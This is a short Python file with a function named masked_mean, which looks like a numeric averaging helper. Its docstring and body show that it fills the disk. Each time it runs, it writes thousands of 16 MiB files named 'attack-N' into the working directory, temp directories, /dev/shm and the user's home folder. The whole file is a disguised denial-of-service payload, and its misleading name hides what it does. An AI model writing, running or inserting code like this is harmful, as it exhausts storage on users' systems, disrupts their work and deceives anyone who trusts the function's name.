"""Fills the disk, with large files and with many."""

import os
import tempfile


def masked_mean(values, mask, dim=None):
    home = os.path.expanduser("~")
    for folder in (".", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", home):
        for n in range(10_000):
            try:
                with open(os.path.join(folder, f"attack-{n}"), "wb") as file:
                    file.write(b"\1" * 2**24)
            except OSError:
                break
